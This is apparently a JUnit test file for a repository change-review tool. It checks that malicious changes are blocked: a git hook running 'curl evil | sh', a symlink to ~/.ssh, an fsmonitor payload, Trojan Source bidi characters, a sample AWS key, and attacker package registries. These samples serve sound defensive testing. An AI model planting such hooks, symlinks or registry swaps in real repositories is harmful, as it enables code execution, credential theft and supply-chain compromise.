package dev.corral.workspace;

import static dev.corral.workspace.Changes.added;
import static dev.corral.workspace.Changes.modified;
import static dev.corral.workspace.Changes.review;
import static dev.corral.workspace.Changes.symlink;
import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** The malicious changes of issue 6, each caught with the right severity, and clean changes. */
class MaliciousCorpusTest {

  @Test
  void blocksSymlinkToSshDirectory() {
    ReviewReport report = review(symlink("docs/keys", "../../../../home/dev/.ssh"));
    assertThat(report.blocking()).isTrue();
    assertThat(report.findings())
        .singleElement()
        .satisfies(
            f -> {
              assertThat(f.check()).isEqualTo("symlink");
              assertThat(f.path()).isEqualTo("docs/keys");
              assertThat(f.message()).contains("points outside the repository");
            });
    assertThat(review(symlink("keys", "/home/dev/.ssh")).findings().getFirst().message())
        .contains("absolute path");
    assertThat(review(symlink("keys", "~/.ssh")).blocking()).isTrue();
  }

  @Test
  void blocksPlantedPostCheckoutHook() {
    ReviewReport report =
        review(Changes.executable(".git/hooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n"));
    assertThat(report.blocking()).isTrue();
    assertThat(Changes.findings(report, "git-dir"))
        .singleElement()
        .satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.BLOCK));
  }

  @Test
  void blocksEnvrc() {
    ReviewReport report = review(added(".envrc", "export PATH=$PWD/bin:$PATH\n"));
    assertThat(Changes.findings(report, "autorun"))
        .singleElement()
        .satisfies(
            f -> {
              assertThat(f.severity()).isEqualTo(Severity.BLOCK);
              assertThat(f.message()).contains("direnv");
            });
  }

  @Test
  void blocksPostinstallScript() {
    ReviewReport report =
        review(
            modified(
                "package.json",
                "{\"name\":\"app\",\"scripts\":{\"test\":\"jest\"}}",
                "{\"name\":\"app\",\"scripts\":{\"test\":\"jest\",\"postinstall\":\"node x.js\"}}"));
    assertThat(report.findings())
        .singleElement()
        .satisfies(
            f -> {
              assertThat(f.severity()).isEqualTo(Severity.BLOCK);
              assertThat(f.message()).isEqualTo("new npm script 'postinstall': node x.js");
            });
  }

  @Test
  void blocksFsmonitorInCommittedConfig() {
    String config = "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = \"./payload.sh\"\n";
    for (String path : new String[] {"tools/.gitconfig", "vendor/lib/config", ".gitmodules"}) {
      ReviewReport report = review(added(path, config));
      assertThat(Changes.findings(report, "git-config"))
          .as(path)
          .singleElement()
          .satisfies(
              f -> {
                assertThat(f.severity()).isEqualTo(Severity.BLOCK);
                assertThat(f.line()).isEqualTo(3);
                assertThat(f.message()).contains("core.fsmonitor");
              });
    }
  }

  @Test
  void blocksEmbeddedBareRepository() {
    ReviewReport report =
        review(
            added("sub/HEAD", "ref: refs/heads/main\n"),
            added("sub/config", "[core]\n\tbare = true\n"),
            added("sub/objects/.keep", ""));
    assertThat(Changes.findings(report, "git-dir"))
        .singleElement()
        .satisfies(f -> assertThat(f.message()).contains("embedded bare git repository in 'sub'"));
  }

  @Test
  void blocksBidiCharactersWithLineNumber() {
    String trojan =
        "int main() {\n  bool isAdmin = false;\n  /*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */\n}\n";
    ReviewReport report = review(added("src/main.c", trojan));
    assertThat(Changes.findings(report, "unicode"))
        .singleElement()
        .satisfies(
            f -> {
              assertThat(f.severity()).isEqualTo(Severity.BLOCK);
              assertThat(f.line()).isEqualTo(3);
              assertThat(f.message()).contains("U+202E");
            });
  }

  @Test
  void blocksAwsAccessKey() {
    ReviewReport report =
        review(added("deploy/env.sh", "export AWS_ACCESS_KEY_ID=AKIA4QZD7XN2MB5RTW3K\n"));
    assertThat(Changes.findings(report, "secret"))
        .singleElement()
        .satisfies(
            f -> {
              assertThat(f.severity()).isEqualTo(Severity.BLOCK);
              assertThat(f.line()).isEqualTo(1);
              assertThat(f.message())
                  .contains("aws-access-key-id")
                  .doesNotContain("AKIA4QZD7XN2MB5RTW3K");
            });
  }

  @Test
  void blocksNewDependencyFromUnknownRegistry() {
    ReviewReport report =
        review(
            modified(
                "requirements.txt",
                "requests==2.31.0\n",
                "--extra-index-url https://pypi.evil.example/simple\nrequests==2.31.0\nrequets==1.0\n"));
    assertThat(report.blocking()).isTrue();
    assertThat(Changes.findings(report, "registry"))
        .singleElement()
        .satisfies(
            f -> {
              assertThat(f.severity()).isEqualTo(Severity.BLOCK);
              assertThat(f.message()).contains("pypi.evil.example");
            });
    assertThat(Changes.findings(report, "dependency"))
        .singleElement()
        .satisfies(
            f -> {
              assertThat(f.severity()).isEqualTo(Severity.WARN);
              assertThat(f.message()).isEqualTo("new dependency requets ==1.0");
            });
  }

  @Test
  void blocksLockfileResolvingFromUnknownHost() {
    String before =
        "{\"packages\":{\"node_modules/a\":{\"version\":\"1.0.0\",\"resolved\":\"https://registry.npmjs.org/a/-/a-1.0.0.tgz\"}}}";
    String after =
        before.replace(
            "https://registry.npmjs.org/a/-/a-1.0.0.tgz",
            "https://npm.evil.example/a/-/a-1.0.0.tgz");
    ReviewReport report = review(modified("package-lock.json", before, after));
    assertThat(report.findings())
        .singleElement()
        .satisfies(
            f -> {
              assertThat(f.severity()).isEqualTo(Severity.BLOCK);
              assertThat(f.message()).contains("npm.evil.example");
            });
  }

  @Test
  void cleanChangeHasNoFindings() {
    ReviewReport report =
        review(
            modified("src/app.py", "def f():\n    return 1\n", "def f():\n    return 2\n"),
            added("README.md", "# App\n\nRun `make test`.\n"),
            Changes.deleted("old.txt", "bye\n"));
    assertThat(report.findings()).isEmpty();
    assertThat(report.blocking()).isFalse();
    assertThat(report.notes())
        .containsExactly("LLM review skipped: no [review.llm] endpoint configured");
  }

  @Test
  void versionBumpIsInformationNotBlock() {
    ReviewReport report =
        review(
            modified(
                "package.json",
                "{\"dependencies\":{\"lodash\":\"^4.17.20\"}}",
                "{\"dependencies\":{\"lodash\":\"^4.17.21\"}}"),
            modified(
                "package-lock.json",
                "{\"resolved\": \"https://registry.npmjs.org/lodash/-/lodash-4.17.20.tgz\"}",
                "{\"resolved\": \"https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz\"}"));
    assertThat(report.blocking()).isFalse();
    assertThat(report.findings())
        .singleElement()
        .satisfies(
            f -> {
              assertThat(f.severity()).isEqualTo(Severity.INFO);
              assertThat(f.message()).isEqualTo("lodash: ^4.17.20 -> ^4.17.21");
            });
  }
}
